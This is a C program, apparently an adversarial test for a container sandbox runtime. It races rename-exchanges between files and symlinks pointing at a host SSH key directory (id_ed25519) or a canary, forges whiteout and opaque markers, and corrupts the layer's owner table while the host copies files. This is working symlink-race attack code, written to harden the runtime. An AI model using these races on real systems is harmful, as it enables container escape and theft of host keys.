/* SPDX-License-Identifier: MIT */
/*
 * copies.c - change the container's files while the host side copies them.
 *
 *   copies race KEYS CANARY   exchange files and directories for symlinks to the machine's, for
 * ever copies sizes              let a file grow, and cut it off, for ever copies odd make what
 * honest programs cannot make copies owners             write nonsense into the owner table, for
 * ever copies cut                cut the owner table off
 *
 * The calls go past the runtime, to the host's own paths of the container's layer.
 */
#include "attack.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static char upper[PATH_MAX / 2]; /* the host's path of the folder that is attacked */
static size_t base_len;   /* of the container's path of that folder */

static void put(const char *path, const char *text)
{
	int fd = (int)MUST(open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644));

	MUST(write(fd, text, strlen(text)));
	MUST(close(fd));
}

/* Find the host's path of a folder: the container's layer ("") or a bind. */
static void find_host(const char *folder)
{
	char found[PATH_MAX];
	char name[64];
	long len;
	int fd;

	snprintf(found, sizeof(found), "%s/found", folder);
	put(found, "");
	fd = (int)MUST(open(found, O_RDONLY));
	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	len = PAST(SYS_readlink, name, upper, sizeof(upper) - 1);
	MUST(close(fd));
	if (len < (long)strlen(found))
		exit(3);
	upper[len - (long)strlen("/found")] = '\0';
	base_len = strlen(folder);
}

static const char *in_upper(const char *path, char out[PATH_MAX])
{
	snprintf(out, PATH_MAX, "%s%s", upper, path + base_len);
	return out;
}

static void exchange_for_ever(const char *a, const char *b)
{
	char from[PATH_MAX];
	char to[PATH_MAX];

	in_upper(a, from);
	in_upper(b, to);
	if (MUST(fork()) != 0)
		return;
	for (;;)
		PAST(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, to, RENAME_EXCHANGE);
}

/* Make a place from a folder of the container and a name in it. */
static const char *in(const char *folder, const char *name, char out[PATH_MAX])
{
	snprintf(out, PATH_MAX, "%s/%s", folder, name);
	return out;
}

static void begin_race(const char *what, const char *keys, const char *canary, const char *folder)
{
	static const char *const pairs[][2] = {{"read", "read.link"},
					       {"write", "write.link"},
					       {"one/file", "one/link"},
					       {"pipes/file", "pipes/pipe"}};
	char key[PATH_MAX];
	char path[PATH_MAX];
	char other[PATH_MAX];

	in(keys, "id_ed25519", key);
	MUST(mkdir(in(folder, "read", path), 0755));
	put(in(folder, "read/id_ed25519", path), "harmless");
	MUST(symlink(keys, in(folder, "read.link", path)));
	MUST(mkdir(in(folder, "write", path), 0777));
	put(in(folder, "write/file", path), "harmless");
	MUST(symlink(canary, in(folder, "write.link", path)));
	MUST(mkdir(in(folder, "one", path), 0755));
	put(in(folder, "one/file", path), "harmless");
	MUST(symlink(key, in(folder, "one/link", path)));
	MUST(mkdir(in(folder, "pipes", path), 0755));
	put(in(folder, "pipes/file", path), "harmless");
	MUST(mkfifo(in(folder, "pipes/pipe", path), 0644));
	for (size_t i = 0; i < COUNT(pairs); i++) {
		if (strncmp(pairs[i][0], what, strlen(what)) == 0 || strcmp(what, "all") == 0)
			exchange_for_ever(in(folder, pairs[i][0], path),
					  in(folder, pairs[i][1], other));
	}
}

static void begin_sizes(void)
{
	static char piece[65536];
	int fd;

	MUST(mkdir("/sizes", 0755));
	put("/sizes/grows", "begins");
	put("/sizes/changes", "begins");
	if (MUST(fork()) == 0) {
		fd = (int)MUST(open("/sizes/grows", O_WRONLY | O_APPEND));
		for (long done = 0; done < 16L * 1024 * 1024; done += (long)sizeof(piece))
			MUST(write(fd, piece, sizeof(piece)));
		pause();
	}
	if (MUST(fork()) == 0) {
		fd = (int)MUST(open("/sizes/changes", O_WRONLY));
		for (;;) {
			MUST(ftruncate(fd, 4L * 1024 * 1024));
			MUST(ftruncate(fd, 10));
		}
	}
}

static void make_odd(void)
{
	char path[PATH_MAX];
	long fd;

	MUST(mkdir("/odd", 0755));
	put("/odd/file", "content");
	MUST(mkdir("/odd/inner", 0755));
	put("/odd/inner/file", "inner content");
	put("/odd/\xff\n\x01name", "any bytes");
	attempt("shut a file", PAST(SYS_chmod, in_upper("/odd/file", path), 0));
	attempt("shut a directory in it", PAST(SYS_chmod, in_upper("/odd/inner", path), 0));
	attempt("shut a directory", PAST(SYS_chmod, in_upper("/odd", path), 0));
	MUST(mkdir("/deep", 0755));
	fd = PAST(SYS_open, in_upper("/deep", path), O_RDONLY | O_DIRECTORY);
	for (int i = 0; i < 2500 && fd >= 0; i++) {
		long deeper = PAST(SYS_mkdirat, fd, "d", 0755);

		if (deeper == 0)
			deeper = PAST(SYS_openat, fd, "d", O_RDONLY | O_DIRECTORY);
		PAST(SYS_close, fd);
		fd = deeper;
	}
	attempt("make a deep directory", fd);
}

/* Make whiteouts and opaque directories by hand, where the runtime would not. */
static void make_marks(void)
{
	char mark[256] = "";
	char path[PATH_MAX];
	char name[PATH_MAX];

	MUST(mkdir("/marked", 0755));
	put("/marked/file", "content");
	put("/etc/touched", "content");
	MUST(unlink("/tmp/given"));
	attempt("read a whiteout",
		PAST(SYS_readlink, in_upper("/tmp/given", path), mark, sizeof(mark) - 1));
	attempt("make a whiteout of nothing", PAST(SYS_symlink, mark, in_upper("/none", path)));
	attempt("make a whiteout in a new directory",
		PAST(SYS_symlink, mark, in_upper("/marked/none", path)));
	snprintf(name, sizeof(name), "/etc/.sandbox-opaque-%s", strrchr(mark, '/') + 1);
	attempt("make a directory opaque", PAST(SYS_symlink, mark, in_upper(name, path)));
	snprintf(name, sizeof(name), "/marked/.sandbox-opaque-%s/inner", strrchr(mark, '/') + 1);
	in_upper(name, path);
	*strrchr(path, '/') = '\0';
	attempt("make a mark that is a directory", PAST(SYS_mkdir, path, 0755));
}

/* The owner table lies beside the layer. */
static const char *owners_path(char out[PATH_MAX])
{
	char *end;

	snprintf(out, PATH_MAX, "%s", upper);
	end = strrchr(out, '/');
	snprintf(end, (size_t)(out + PATH_MAX - end), "/owners");
	return out;
}

static void begin_owners(void)
{
	static unsigned words[1 << 14];
	static const long places[] = {0, 12, 16, 40, 48, 56, 4096, 4096 + (1L << 20) * 4};
	char path[PATH_MAX];
	unsigned seed = 1;
	long fd;

	MUST(mkdir("/owned", 0755));
	for (int i = 0; i < 40; i++) {
		snprintf(path, sizeof(path), "/owned/%d", i);
		put(path, "content");
		MUST(chown(path, (uid_t)(i + 1), 7));
	}
	fd = PAST(SYS_open, owners_path(path), O_RDWR);
	attempt("open the owner table", fd);
	if (fd < 0 || MUST(fork()) != 0)
		return;
	for (;;) {
		size_t place = seed % COUNT(places);

		for (size_t i = 0; i < COUNT(words); i++) {
			seed = seed * 1664525U + 1013904223U;
			words[i] = (seed >> 24) < 96 ? seed : seed % 4096;
		}
		/* The first bytes say what the file is: they stay. */
		PAST(SYS_pwrite64, fd, words, place < 6 ? 8 : sizeof(words),
		     places[place] + (place == 0 ? 12 : 0));
	}
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	char path[PATH_MAX];

	find_host(argc == 6 ? argv[5] : "");
	if (strcmp(mode, "race") == 0 && argc >= 5)
		begin_race(argv[2], argv[3], argv[4], argc == 6 ? argv[5] : "");
	else if (strcmp(mode, "marks") == 0)
		make_marks();
	else if (strcmp(mode, "sizes") == 0)
		begin_sizes();
	else if (strcmp(mode, "odd") == 0)
		make_odd();
	else if (strcmp(mode, "owners") == 0)
		begin_owners();
	else if (strcmp(mode, "cut") == 0)
		attempt("cut the owner table off", PAST(SYS_truncate, owners_path(path), 0));
	else
		return 2;
	attempt("begin", 0);
	pause();
	return 0;
}
